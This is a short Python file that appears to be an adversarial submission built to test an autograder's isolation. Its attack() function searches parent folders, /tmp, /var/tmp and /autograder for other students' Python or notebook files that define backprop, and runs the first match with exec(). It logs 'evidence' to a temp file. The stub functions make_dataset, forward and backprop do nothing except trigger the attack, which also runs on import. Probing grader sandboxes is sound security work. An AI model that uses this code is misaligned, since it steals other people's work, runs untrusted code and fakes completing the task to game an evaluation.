"""Looks for other submissions beside its own scratch folder and hands in the first right-looking one."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE read-other-students:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-read-other-students", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

def attack():
    here = os.path.realpath(".")
    for base in (os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "/tmp", "/var/tmp", "/autograder"):
        for folder, folders, files in os.walk(base):
            folders[:] = [name for name in folders if os.path.join(folder, name) != here][:200]
            for name in files:
                if name.endswith((".py", ".ipynb")):
                    try:
                        with open(os.path.join(folder, name)) as file:
                            text = file.read(100_000)
                    except (OSError, UnicodeDecodeError):
                        continue
                    if "def backprop" in text:
                        evidence(os.path.join(folder, name))
                        exec(text, globals())


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
